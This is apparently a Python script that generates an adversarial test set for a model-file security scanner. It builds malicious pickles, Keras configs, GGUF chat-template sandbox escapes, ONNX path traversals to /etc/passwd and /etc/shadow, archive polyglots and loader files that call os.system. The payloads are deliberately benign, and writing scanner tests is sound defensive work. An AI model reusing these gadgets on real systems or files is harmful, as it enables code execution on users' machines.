#!/usr/bin/env python3
"""Third blind adversarial set for `mlsec scan` (stdlib only, deterministic, nothing is ever loaded).

Every file is assembled opcode by opcode / byte by byte. Payloads are harmless
(`echo mlsec-blind3`, paths under /tmp/mlsec_blind3*, http://127.0.0.1:9/). Do not load them anyway.
"""
import bz2, gzip, io, json, lzma, os, struct, sys, tarfile, zipfile, zlib

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import blindgen  # noqa: E402  (bench/scan/blindgen.py: the shared byte writers)
from blindgen import varint  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
CMD = "echo mlsec-blind3"
URL = "http://127.0.0.1:9/mlsec-blind3"
rows = []


# ---------------------------------------------------------------- pickle assembler
s = blindgen.binunicode  # string push (BINUNICODE)
sb = blindgen.short_binunicode
i = blindgen.binint
g0 = blindgen.text_global  # GLOBAL opcode (text)
t = blindgen.mark_tuple  # tuple from pushed items
call = blindgen.call
R, STOP, NONE, TRUE, FALSE = blindgen.REDUCE, blindgen.STOP, blindgen.NONE, blindgen.TRUE, blindgen.FALSE
P4 = b"\x80\x04"
P2 = b"\x80\x02"


def sg(mod, name):  # STACK_GLOBAL
    return blindgen.stack_global(mod, name, sb)


def p4(body):
    return blindgen.protocol(body, 4)


def add(name, data, what, klass, expect="flagged"):
    blindgen.write_file(OUT, name, data)
    rows.append((name, klass, what, expect))


# ---------------------------------------------------------------- zip helpers (deterministic)
FIXED = (2020, 1, 1, 0, 0, 0)


def mkzip(members, comment=b""):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for n, d, *c in members:
            zi = zipfile.ZipInfo(n, FIXED)
            zi.compress_type = c[0] if c else zipfile.ZIP_STORED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, d)
        z.comment = comment
    return bio.getvalue()


def torch_zip(pkl, prefix="archive", extra=()):
    m = [(f"{prefix}/data.pkl", pkl), (f"{prefix}/byteorder", b"little"), (f"{prefix}/version", b"3\n")]
    m += list(extra)
    return mkzip(m)


def raw_zip(entries):
    """Hand-made zip: entries = (cd_name, local_name, data, crc_override, flags, lh_sizes_zero)."""
    out = bytearray(); cd = bytearray()
    for cdn, ln, data, crc_o, flags, zero in entries:
        crc = zlib.crc32(data) if crc_o is None else crc_o
        off = len(out)
        ls = 0 if zero else len(data)
        lcrc = 0 if zero else crc
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x5021, lcrc, ls, ls, len(ln), 0) + ln.encode() + data
        if flags & 8:
            out += struct.pack("<IIII", 0x08074B50, crc, len(data), len(data))
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x5021, crc, len(data), len(data),
                          len(cdn), 0, 0, 0, 0, 0o644 << 16, off) + cdn.encode()
    cdoff = len(out)
    out += cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), cdoff, 0)
    return bytes(out)


def tar(members, mode="w"):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode) as tf:
        for n, d in members:
            ti = tarfile.TarInfo(n); ti.size = len(d); ti.mtime = 1577836800; ti.mode = 0o644
            tf.addfile(ti, io.BytesIO(d))
    return bio.getvalue()


def gz(d):
    return gzip.compress(d, mtime=0)


# =========================================================================================
# A. innocent-named stdlib callables that run code, import, touch files/network
def stdlib_calls():
    K = "stdlib call"
    add("a01_pydoc_pipepager.pkl", p4(call(sg("pydoc", "pipepager"), s("x"), s(CMD))), "pydoc.pipepager(text, cmd) runs cmd through a shell", K)
    add("a02_pydoc_locate_import.pkl", p4(call(call(sg("pydoc", "locate"), s("os.system")), s(CMD))), "pydoc.locate('os.system') universal importer, then called", K)
    add("a03_pkgutil_resolve_name.pkl", p4(call(call(sg("pkgutil", "resolve_name"), s("os:system")), s(CMD))), "pkgutil.resolve_name universal importer (GHSA-vvpj-8cmc-gx39)", K)
    add("a04_imaplib_stream.pkl", p4(call(sg("imaplib", "IMAP4_stream"), s(CMD))), "imaplib.IMAP4_stream(command) spawns a shell command", K)
    add("a05_logging_dictconfig_factory.pkl", p4(call(sg("logging.config", "dictConfig"),
        b"}" + b"(" + s("version") + i(1) + s("handlers") + b"}" + s("h") + b"}(" + s("()") + s("os.system") + s("command") + s(CMD) + b"u" + b"s" + b"u")),
        "logging.config.dictConfig with a '()' factory naming os.system: string-resolved call from plain dicts", K)
    add("a06_logging_fileconfig.pkl", p4(call(sg("logging.config", "fileConfig"), s("/tmp/mlsec_blind3.ini"))), "logging.config.fileConfig evals handler args of an attacker-placed file", K)
    add("a07_site_addsitedir_pth.pkl", p4(call(sg("site", "addsitedir"), s("/tmp/mlsec_blind3_site"))), "site.addsitedir executes 'import' lines of .pth files", K)
    add("a08_runpy_run_path.pkl", p4(call(sg("runpy", "run_path"), s("/tmp/mlsec_blind3.py"))), "runpy.run_path runs a Python file", K)
    add("a09_timeit_stmt.pkl", p4(call(sg("timeit", "timeit"), s("__import__('os').system('echo mlsec-blind3')"), NONE, NONE, i(1))), "timeit.timeit compiles and runs a statement string", K)
    add("a10_cprofile_run.pkl", p4(call(sg("cProfile", "run"), s("print('mlsec-blind3')"))), "cProfile.run execs a string (GHSA-46h3-79wf-xr6c class)", K)
    add("a11_code_interp_runsource.pkl", p4(call(sg("code", "InteractiveInterpreter.runsource"), call(sg("code", "InteractiveInterpreter")), s("print('mlsec-blind3')"))),
        "code.InteractiveInterpreter().runsource via a dotted qualname (unbound method on a rebuilt instance)", K)
    add("a12_doctest_debug_script.pkl", p4(call(sg("doctest", "debug_script"), s("print('mlsec-blind3')"))), "doctest.debug_script execs source", K)
    add("a13_atexit_register.pkl", p4(call(sg("atexit", "register"), sg("subprocess", "getoutput"), s(CMD))), "atexit.register defers a call to interpreter exit", K)
    add("a14_weakref_finalize.pkl", p4(call(sg("weakref", "finalize"), call(sg("builtins", "set")), sg("pydoc", "pipepager"), s("x"), s(CMD))),
        "weakref.finalize on a temporary runs the callback as soon as it is collected", K)
    add("a15_uuid_get_command_stdout.pkl", p4(call(sg("uuid", "_get_command_stdout"), s("sh"), s("-c"), s(CMD))), "uuid._get_command_stdout runs an executable", K)
    add("a16_ctypes_cdll.pkl", p4(call(sg("ctypes", "CDLL"), s("/tmp/mlsec_blind3.so"))), "ctypes.CDLL loads native code (constructor runs)", K)
    add("a17_sqlite_executescript.pkl", p4(call(sg("sqlite3", "Connection.executescript"), call(sg("sqlite3", "connect"), s("/tmp/mlsec_blind3.db")), s("create table t(x);"))),
        "sqlite3.connect + executescript writes a file", K)
    add("a18_smtplib_network.pkl", p4(call(sg("smtplib", "SMTP"), s("127.0.0.1"), i(9))), "smtplib.SMTP connects on construction", K)
    add("a19_copyreg_reconstructor_popen.pkl", p4(call(sg("copyreg", "_reconstructor"), sg("subprocess", "Popen"), sg("subprocess", "Popen"), b"]" + s("sh") + b"a")),
        "copyreg._reconstructor(cls, base, state) calls base.__init__(obj, state): Popen.__init__(['sh'])", K)
    add("a20_functools_reduce_invoker.pkl", p4(call(sg("functools", "reduce"), sg("subprocess", "call"), b"]" + s(CMD) + b"a")),
        "functools.reduce as an invoker (returns the single item; here with an initial call)", K)
    add("a21_zipimport_load.pkl", p4(call(sg("zipimport", "zipimporter.load_module"), call(sg("zipimport", "zipimporter"), s("/tmp/mlsec_blind3.zip")), s("m"))),
        "zipimport.zipimporter(path).load_module executes a module from a zip", K)
    add("a22_importlib_sourcefileloader.pkl", p4(call(sg("importlib.machinery", "SourceFileLoader.load_module"),
        call(sg("importlib.machinery", "SourceFileLoader"), s("m"), s("/tmp/mlsec_blind3.py")))), "SourceFileLoader(...).load_module via dotted qualname", K)
    add("a23_interpreters_run_string.pkl", p4(call(sg("_xxsubinterpreters", "run_string"), call(sg("_xxsubinterpreters", "create")), s("print('mlsec-blind3')"))),
        "_xxsubinterpreters.create/run_string (GHSA-6ggj-6f2q-f7mx)", K)
    add("a24_asyncio_subprocess_transport.pkl", p4(call(sg("asyncio.unix_events", "_UnixSubprocessTransport"), NONE, NONE, TRUE, s(CMD), NONE, NONE, NONE, i(0))),
        "asyncio.unix_events._UnixSubprocessTransport (CVE-2025-10157)", K)
    add("a25_venv_create_pip.pkl", p4(call(sg("venv", "create"), s("/tmp/mlsec_blind3_venv"), FALSE, FALSE, FALSE, FALSE, TRUE)), "venv.create(with_pip=True) spawns ensurepip", K)


# B. dotted qualname / attribute chains (protocol >= 4 find_class walks dots)
def chains():
    K = "qualname chain"
    add("b01_tempfile_os_system.pkl", p4(call(sg("tempfile", "_os.system"), s(CMD))), "tempfile._os.system: os reached as an attribute of an innocent module", K)
    add("b02_logging_os_system.pkl", p4(call(sg("logging", "os.system"), s(CMD))), "logging.os.system", K)
    add("b03_zipfile_os_popen.pkl", p4(call(sg("zipfile", "os.popen"), s(CMD))), "zipfile.os.popen", K)
    add("b04_torch_serialization_os.pkl", p4(call(sg("torch", "serialization.os.system"), s(CMD))), "torch.serialization.os.system: chain under an allow-listed top-level", K)
    add("b05_numpy_chain_subprocess.pkl", p4(call(sg("numpy", "ctypeslib.os.system"), s(CMD))), "numpy.ctypeslib.os.system", K)
    add("b06_collections_builtins_eval.pkl", p4(call(sg("collections", "OrderedDict.__init__.__globals__.get"), s("x"))),
        "dunder chain to a function's __globals__", K)
    add("b07_global_opcode_dotted.pkl", P4 + call(g0("json", "decoder.re.enum.sys.modules.get"), s("os")) + STOP, "text GLOBAL opcode with a dotted name under PROTO 4", K)


# C. mutating opcodes / BUILD on global objects (no call at all)
def mutations():
    K = "state mutation"
    add("c01_numpy_load_defaults.pkl", p4(sg("numpy", "load") + NONE + b"}" + s("__defaults__") + t(NONE, TRUE, TRUE, s("ASCII")) + b"s" + b"\x86" + b"b" + b"0" + NONE),
        "BUILD slotstate sets numpy.load.__defaults__ so later loads allow pickles", K)
    add("c02_torch_load_kwdefaults.pkl", p4(sg("torch.serialization", "load") + NONE + b"}" + s("__kwdefaults__") + b"}" + s("weights_only") + FALSE + b"s" + b"s" + b"\x86b0" + NONE),
        "BUILD slotstate resets torch.load's weights_only default", K)
    add("c03_json_decoder_swap.pkl", p4(sg("json", "JSONDecoder") + NONE + b"}" + s("decode") + sg("builtins", "eval") + b"s" + b"\x86b0" + NONE),
        "BUILD on a class replaces JSONDecoder.decode with eval (later json.loads evals)", K)
    add("c04_sys_path_append.pkl", p4(sg("pickle", "sys.path") + s("/tmp/mlsec_blind3_path") + b"a0" + NONE),
        "APPEND onto sys.path (reached through pickle.sys): next import runs attacker code", K)
    add("c05_sys_modules_setitem.pkl", p4(sg("pickle", "sys.modules") + s("numpy") + sg("pickle", "sys.modules.get") + b"0" + sg("logging", "os") + b"s0" + NONE),
        "SETITEM into sys.modules: 'numpy' now names os", K)
    add("c06_environ_setitem.pkl", p4(sg("subprocess", "os.environ") + s("LD_PRELOAD") + s("/tmp/mlsec_blind3.so") + b"s0" + NONE),
        "SETITEM into os.environ (putenv) reached through subprocess.os", K)
    add("c07_sys_breakpointhook.pkl", p4(sg("pickle", "sys") + NONE + b"}(" + s("breakpointhook") + sg("pdb", "set_trace") + s("excepthook") + sg("code", "interact") + b"u" + b"\x86b0" + NONE),
        "BUILD slotstate on the sys module installs hooks", K)


# D. Python-2 names remapped by fix_imports (protocol < 3)
INNER = b"cos\nsystem\n(S'x'\ntR."


def py2names():
    K = "py2 name mapping"
    add("d01_commands_getoutput.pkl", P2 + call(g0("commands", "getoutput"), s(CMD)) + STOP, "commands.getoutput -> subprocess.getoutput (fix_imports)", K)
    add("d02_cpickle_loads.pkl", P2 + call(g0("cPickle", "loads"), b"C" + bytes([len(INNER)]) + INNER) + STOP, "cPickle.loads -> pickle.loads nested pickle", K)
    add("d03_urllib2_urlopen.pkl", g0("urllib2", "urlopen") + b"(S'" + URL.encode() + b"'\ntR.", "urllib2.urlopen -> urllib.request.urlopen, protocol 0", K)
    add("d04_itertools_imap_invoker.pkl", P2 + call(g0("__builtin__", "list"), call(g0("itertools", "imap"), g0("commands", "getoutput"), b"]" + s(CMD) + b"a")) + STOP,
        "itertools.imap -> builtins.map invoker", K)
    add("d05_copy_reg_reconstructor.pkl", g0("copy_reg", "_reconstructor") + b"(" + g0("subprocess", "Popen") + g0("subprocess", "Popen") + b"(lp0\nS'sh'\natR.",
        "copy_reg -> copyreg._reconstructor with Popen base, protocol 0", K)


# E. memo tricks
def memo():
    K = "memo trick"
    # memo slot 0 first holds a benign name, then is overwritten with 'os'
    body = sb("collections") + b"\x94" + sb("OrderedDict") + b"\x94" + b"0" + b"0" + sb("posix") + b"q\x00" + sb("system") + b"q\x01" \
        + b"h\x00" + b"h\x01" + b"\x93" + t(s(CMD)) + R
    add("e01_memo_overwrite.pkl", p4(body), "MEMOIZE then BINPUT overwrites the same slots; STACK_GLOBAL from BINGET", K)
    body = sb("posix") + b"r" + struct.pack("<I", 4000000000) + b"0" + sb("system") + b"r" + struct.pack("<I", 7) + b"0" + b"j" + struct.pack("<I", 4000000000) + b"j" + struct.pack("<I", 7) + b"\x93" + t(s(CMD)) + R
    add("e02_memo_huge_index.pkl", p4(body), "LONG_BINPUT at index 4e9 (sparse memo)", K)
    body = b"(" + sb("os") + sb("system") + b"p7\n" + b"1" + sb("os") + b"g7\n" + b"\x93" + t(s(CMD)) + R
    add("e03_memo_text_put_mark.pkl", p4(body), "text PUT/GET of a name inside a MARK that is later abandoned", K)


# F. containers, archives, polyglots
def containers():
    K = "container"
    evil = p4(call(sg("pydoc", "pipepager"), s("x"), s(CMD)))
    add("f01_torch_bad_crc.pt", raw_zip([("archive/data.pkl", "archive/data.pkl", evil, 0xDEADBEEF, 0, False),
                                         ("archive/version", "archive/version", b"3\n", None, 0, False)]), "torch zip whose data.pkl CRC is wrong (CVE-2025-10156)", K)
    add("f02_torch_name_mismatch.pt", raw_zip([("archive/data.pkl", "archive/readme.txt", evil, None, 0, False),
                                                ("archive/version", "archive/version", b"3\n", None, 0, False)]), "local header name differs from the central directory name", K)
    add("f03_torch_data_descriptor.pt", raw_zip([("archive/data.pkl", "archive/data.pkl", evil, None, 8, True),
                                                 ("archive/version", "archive/version", b"3\n", None, 0, False)]), "data.pkl with a data descriptor and zero sizes in the local header", K)
    add("f04_torch_duplicate_member.pt", raw_zip([("archive/data.pkl", "archive/data.pkl", p4(b"}"), None, 0, False),
                                                  ("archive/data.pkl", "archive/data.pkl", evil, None, 0, False),
                                                  ("archive/version", "archive/version", b"3\n", None, 0, False)]), "two data.pkl members, benign first", K)
    st_hdr = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    st_hdr += b" " * (-len(st_hdr) % 8)
    st = struct.pack("<Q", len(st_hdr)) + st_hdr + b"\0" * 8
    add("f05_safetensors_zip_polyglot.safetensors", st + torch_zip(evil), "valid safetensors with a torch zip appended (torch.load reads the zip)", K)
    gg = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    add("f06_gguf_zip_polyglot.bin", gg + b"\0" * 24 + torch_zip(evil), "GGUF header followed by a torch zip, named .bin", K)
    add("f07_pickle_named_json.json", evil, "pickle content under a .json name (CVE-2025-10155 extension class)", K)
    add("f08_pickle_named_safetensors.safetensors", evil, "pickle content under a .safetensors name", K)
    # zstd frame, raw blocks, single segment (pandas.read_pickle infers zstd from .zst)
    def zstd_raw(d):
        fh = bytes([0x20 | 0x00]) + bytes([len(d) & 0xFF]) if len(d) < 256 else None
        # Frame_Header_Descriptor: single segment (0x20), FCS field size 0 -> 1 byte
        out = b"\x28\xb5\x2f\xfd" + bytes([0x20, len(d)])
        bh = (len(d) << 3) | (0 << 1) | 1
        return out + struct.pack("<I", bh)[:3] + d
    add("f09_pandas_pickle.pkl.zst", zstd_raw(evil), "zstd frame with a raw block (pandas infers zstd from .zst)", K)
    add("f10_nested_zip_in_tar.tar.gz", gz(tar([("repo/model/pytorch_model.bin", torch_zip(evil)), ("repo/README.md", b"hi\n")])), "torch zip inside a tar.gz repository snapshot", K)
    add("f11_zip_in_zip.zip", mkzip([("bundle/model.pt", torch_zip(evil)), ("bundle/meta.json", b"{}")]), "torch zip inside a zip bundle", K)
    add("f12_joblib_in_tar_xz.tar.xz", lzma.compress(tar([("model.joblib", zlib.compress(evil))])), "zlib joblib pickle inside a tar.xz", K)
    add("f13_zip_deflated_comment.pt", mkzip([("archive/data.pkl", evil, zipfile.ZIP_DEFLATED), ("archive/version", b"3\n")], comment=b"PK\x05\x06 fake"),
        "torch zip, data.pkl deflated, comment containing a fake EOCD signature", K)
    add("f14_prefix_junk_zip.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + torch_zip(evil), "PNG magic prefix before a torch zip", K)
    add("f15_bz2_in_gzip.pkl.gz", gz(bz2.compress(evil)), "gzip whose content is bzip2 of a pickle (joblib sniffs again? layered compression)", K, "inconclusive")
    # npy inside a torch zip as a second pickle member: torch legacy 'tensors' pickle? use an extra pickle
    add("f16_torch_zip_other_prefix.pt", torch_zip(evil, prefix="my model v2 (final)"), "torch zip whose folder has spaces and parentheses", K)


# G. Keras configs
def keras():
    K = "keras config"
    def kzip(cfg):
        return mkzip([("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01"}).encode()),
                      ("config.json", json.dumps(cfg).encode())])
    def seq(layers):
        return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}, "registered_name": None}
    inp = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}, "registered_name": None}
    add("g01_tfsmlayer.keras", kzip(seq([inp, {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/tmp/mlsec_blind3_savedmodel", "call_endpoint": "serve"}, "registered_name": None}])),
        "TFSMLayer loads an attacker SavedModel (CVE-2026-1462)", K)
    add("g02_get_file_as_layer.keras", kzip(seq([inp, {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": URL, "cache_dir": "/tmp/mlsec_blind3"}, "registered_name": None}])),
        "keras.utils.get_file named as a layer class (allow-listed module, fetches a URL; CVE-2025-8747 class)", K)
    add("g03_stringlookup_url_vocab.keras", kzip(seq([inp, {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "l", "vocabulary": URL + "/vocab.txt"}, "registered_name": None}])),
        "StringLookup vocabulary as a URL (CVE-2025-12058 class)", K)
    add("g04_textvectorization_file_vocab.keras", kzip(seq([inp, {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": "/etc/passwd"}, "registered_name": None}])),
        "TextVectorization vocabulary read from a local file", K)
    add("g05_enable_unsafe_then_lambda.keras", kzip(seq([inp,
        {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None},
        {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAAAAAAAAAAAAAAEAAAADAAAA8wQAAABkAFMAKQFOqQCpAXIBAAAAcgEAAAD6AXjaATwBAAAAcgMAAAA=", "defaults": None, "closure": None}}}, "registered_name": None}])),
        "config calls keras.config.enable_unsafe_deserialization before a Lambda (CVE-2025-9906)", K)
    add("g06_activation_subprocess.keras", kzip(seq([inp, {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2,
        "activation": {"module": "subprocess", "class_name": "function", "config": "getoutput", "registered_name": "function"}}, "registered_name": None}])),
        "Dense activation resolved as subprocess.getoutput", K)
    add("g07_initializer_module_path.keras", kzip(seq([inp, {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2,
        "kernel_initializer": {"module": "pydoc", "class_name": "locate", "config": {}, "registered_name": "locate"}}, "registered_name": None}])),
        "kernel_initializer naming pydoc.locate", K)
    add("g08_compile_loss_dotted.keras", mkzip([("metadata.json", b'{"keras_version":"3.8.0"}'), ("config.json", json.dumps(dict(seq([inp]),
        compile_config={"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": None}, "optimizer": "adam"})).encode())]),
        "compile_config loss naming os.system", K)


# H. GGUF chat templates
def gguf():
    K = "gguf template"
    def gfile(tpl, key="tokenizer.chat_template"):
        kv = [("general.architecture", "llama"), ("general.name", "blind3"), (key, tpl)]
        b = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
        for k, v in kv:
            kb, vb = k.encode(), v.encode()
            b += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
        return b + b"\0" * (-len(b) % 32)
    T = {
        "h01_tilde_concat.gguf": ("{% set u='_'~'_' %}{{ cycler[u~'init'~u][u~'glob'~'als'~u]['o'~'s'].popen('echo mlsec-blind3').read() }}", "'~' concatenation builds dunder names"),
        "h02_reverse_filter.gguf": ("{% set g='__slabolg__'|reverse %}{% set i='__tini__'|reverse %}{{ (joiner|attr(i)|attr(g)).os.popen('echo mlsec-blind3').read() }}", "reversed strings through |reverse and |attr"),
        "h03_slice_reverse.gguf": ("{{ (namespace|attr('__tini__'[::-1])|attr('__slabolg__'[::-1]))['so'[::-1]].popen('echo mlsec-blind3').read() }}", "[::-1] slices"),
        "h04_lower_filter.gguf": ("{{ (lipsum|attr('__GLOBALS__'|lower))['OS'|lower]['POPEN'|lower]('echo mlsec-blind3').read() }}", "upper-case names lowered"),
        "h05_replace_filter.gguf": ("{% set a='xxglobalsxx'|replace('x','_') %}{{ (lipsum|attr(a)).os.system('echo mlsec-blind3') }}", "|replace builds the dunder"),
        "h06_format_method.gguf": ("{% set c='{:c}'.format(95) %}{{ (cycler|attr(c*2~'init'~c*2)|attr(c*2~'globals'~c*2)).os.system('echo mlsec-blind3') }}", "str.format('{:c}') of 95"),
        "h07_subclasses_walk.gguf": ("{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('echo mlsec-blind3') }}{% endif %}{% endfor %}", "classic __subclasses__ walk"),
        "h08_attr_format_sandbox.gguf": ("{{ '{0.__init__.__globals__[os].environ}'|attr('format')(cycler) }}", "|attr('format') reaches str.format past the sandbox (CVE-2025-27516 class)"),
        "h09_self_context.gguf": ("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('echo mlsec-blind3').read() }}", "self._TemplateReference__context"),
        "h10_request_mro.gguf": ("{% set x = dict(a=1)|list %}{{ x.__class__.__mro__[-1].__subclasses__()|map(attribute='__name__')|join(',') }}{{ cycler.__init__.__globals__.__builtins__.exec('print(1)') }}", "mro walk then __builtins__.exec"),
    }
    for n, (tpl, what) in T.items():
        add(n, gfile(tpl), what, K)
    add("h11_named_template.gguf", gfile("{{ lipsum.__globals__['os'].popen('echo mlsec-blind3').read() }}", key="tokenizer.chat_template.rag"), "payload in a named template key (tokenizer.chat_template.rag)", K)
    add("h12_tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": "{{ cycler.__init__.__globals__.os.popen('echo mlsec-blind3').read() }}"}).encode(),
        "HF tokenizer_config.json chat_template SSTI", "template file")


# I. library helpers in pickles (network, files, nested loads)
def libraries():
    K = "library call"
    add("i01_torch_hub_load_state_dict_url.pkl", p4(call(sg("torch.hub", "load_state_dict_from_url"), s(URL))), "torch.hub.load_state_dict_from_url: fetch + nested load", K)
    add("i02_torch_ops_load_library.pkl", p4(call(sg("torch.ops", "load_library"), s("/tmp/mlsec_blind3.so"))), "torch.ops.load_library loads native code", K)
    add("i03_torch_load_nested_path.pkl", p4(call(sg("torch", "load"), s("/tmp/mlsec_blind3.pt"))), "torch.load of an attacker path (nested pickle)", K)
    add("i04_numpy_load_partial.pkl", p4(sg("functools", "partial") + t(sg("numpy", "load")) + b"}" + s("allow_pickle") + TRUE + b"s" + b"\x92" + t(s("/tmp/mlsec_blind3.npy")) + R),
        "NEWOBJ_EX partial(numpy.load, allow_pickle=True) then called on a path", K)
    add("i05_nltk_data_load_url.pkl", p4(call(sg("nltk.data", "load"), s(URL + "/x.pickle"))), "nltk.data.load fetches and unpickles a URL", K)
    add("i06_astropy_fnunpickle.pkl", p4(call(sg("astropy.io.misc", "fnunpickle"), s("/tmp/mlsec_blind3.pkl"))), "astropy fnunpickle nested pickle from a path", K)
    add("i07_gensim_unpickle.pkl", p4(call(sg("gensim.utils", "unpickle"), s("/tmp/mlsec_blind3.pkl"))), "gensim.utils.unpickle nested pickle", K)
    add("i08_sklearn_run_python_script.pkl", p4(call(sg("sklearn.utils._testing", "assert_run_python_script"), s("print('mlsec-blind3')"))), "sklearn assert_run_python_script spawns python", K)
    add("i09_pandas_read_pickle_url.pkl", p4(call(sg("pandas", "read_pickle"), s(URL + "/x.pkl"))), "pandas.read_pickle of a URL", K)
    add("i10_joblib_load_path.pkl", p4(call(sg("joblib", "load"), s("/tmp/mlsec_blind3.joblib"))), "joblib.load nested", K)
    add("i11_skimage_imread_url.pkl", p4(call(sg("skimage.io", "imread"), s(URL + "/x.png"))), "skimage.io.imread of a URL", K)
    add("i12_sympy_preview.pkl", p4(call(sg("sympy", "preview"), s("x"), s("file"), s("/tmp/mlsec_blind3.png"))), "sympy.preview runs latex/dvipng subprocesses", K)
    add("i13_astropy_download_file.pkl", p4(call(sg("astropy.utils.data", "download_file"), s(URL))), "astropy download_file (network)", K)
    add("i14_networkx_read_gml.pkl", p4(call(sg("networkx", "read_gml"), s("/tmp/mlsec_blind3.gml"))), "networkx.read_gml reads a file (destringizer default)", K, "flagged")
    add("i15_torch_fx_symbolic_eval.pkl", p4(call(sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), call(sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv")), s("__import__('os').system('echo')"), b"]")),
        "ShapeEnv.evaluate_guards_expression evals a string", K)


# J. late additions: template files outside GGUF, ONNX external data, file writes by method path
def _pb(field, value):
    if isinstance(value, int):
        return varint(field << 3) + varint(value)
    return varint(field << 3 | 2) + varint(len(value)) + value


def onnx_external(location):
    ext = _pb(13, _pb(1, b"location") + _pb(2, location.encode())) + _pb(13, _pb(1, b"length") + _pb(2, b"16"))
    tensor = _pb(1, 4) + _pb(2, 1) + _pb(8, b"W") + ext + _pb(14, 1)
    node = _pb(1, b"x") + _pb(1, b"W") + _pb(2, b"y") + _pb(4, b"Add")
    vi = lambda n: _pb(1, n) + _pb(2, _pb(1, _pb(1, 1) + _pb(2, _pb(1, _pb(1, 4)))))
    graph = _pb(1, node) + _pb(2, b"g") + _pb(5, tensor) + _pb(11, vi(b"x")) + _pb(12, vi(b"y"))
    return _pb(1, 8) + _pb(2, b"blind3") + _pb(7, graph) + _pb(8, _pb(2, 13))


def late():
    K = "template file"
    tpl = "{{ cycler.__init__.__globals__.os.popen('echo mlsec-blind3').read() }}"
    add("j01_tokenizer_config_template_list.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": tpl}]}).encode(),
        "tokenizer_config.json chat_template as a list of named templates", K)
    add("j02_chat_template.jinja", tpl.encode(), "chat_template.jinja (transformers >= 4.43 saves the template as its own file)", K)
    add("j03_chat_template.json", json.dumps({"chat_template": tpl}).encode(), "processor chat_template.json", K)
    K = "onnx external data"
    add("j04_onnx_external_traversal.onnx", onnx_external("../../../../etc/passwd"), "initializer external_data location with ../ (file read on load, CVE-2024-27318 class)", K)
    add("j05_onnx_external_absolute.onnx", onnx_external("/etc/shadow"), "initializer external_data absolute location", K)
    K = "stdlib call"
    add("j06_pathlib_write_text.pkl", p4(call(sg("pathlib", "Path.write_text"), call(sg("pathlib", "Path"), s("/tmp/mlsec_blind3.pth")), s("import os; os.system('echo mlsec-blind3')\n"))),
        "pathlib.Path.write_text via dotted qualname writes a .pth", K)
    add("j07_shutil_copyfileobj_chain.pkl", p4(call(sg("distutils.file_util", "write_file"), s("/tmp/mlsec_blind3.txt"), b"]" + s("x") + b"a")), "distutils.file_util.write_file (CVE-2025-10155 era)", K)


# K. more loaders: torch's oldest tar format, code that model loaders import
def loaders():
    evil = p4(call(sg("pydoc", "pipepager"), s("x"), s(CMD)))
    add("k01_torch_legacy_tar.pt", tar([("sys_info", p4(b"}")), ("pickle", evil), ("tensors", p4(b"]")), ("storages", p4(b"]"))]),
        "torch.load's oldest format: an uncompressed tar with sys_info/pickle/tensors/storages members", "container")
    add("k02_mlflow_model/MLmodel", b"flavors:\n  python_function:\n    loader_module: blind3_loader\n    code: code\n    env: conda.yaml\nmlflow_version: 2.9.0\n",
        "MLflow pyfunc MLmodel whose loader_module is shipped code", "loader code")
    add("k02_mlflow_model/code/blind3_loader.py", b"import os\nos.system('echo mlsec-blind3')\n\ndef _load_pyfunc(path):\n    return None\n",
        "the module mlflow.pyfunc.load_model imports", "loader code")
    add("k03_hf_remote_code/config.json", json.dumps({"model_type": "blind3", "architectures": ["Blind3Model"], "auto_map": {"AutoModel": "modeling_blind3.Blind3Model"}}).encode(),
        "HF config.json auto_map to repo code (trust_remote_code)", "loader code")
    add("k03_hf_remote_code/modeling_blind3.py", b"import subprocess\nsubprocess.run(['sh', '-c', 'echo mlsec-blind3'])\n\nclass Blind3Model:\n    pass\n",
        "modeling file executed on AutoModel.from_pretrained(trust_remote_code=True)", "loader code")


def main():
    stdlib_calls(); chains(); mutations(); py2names(); memo(); containers(); keras(); gguf(); libraries(); late(); loaders()
    blindgen.write_manifest(OUT, ("file", "library/class", "what", "expected"), rows)
    print(len(rows), "adversarial files")


if __name__ == "__main__":
    main()
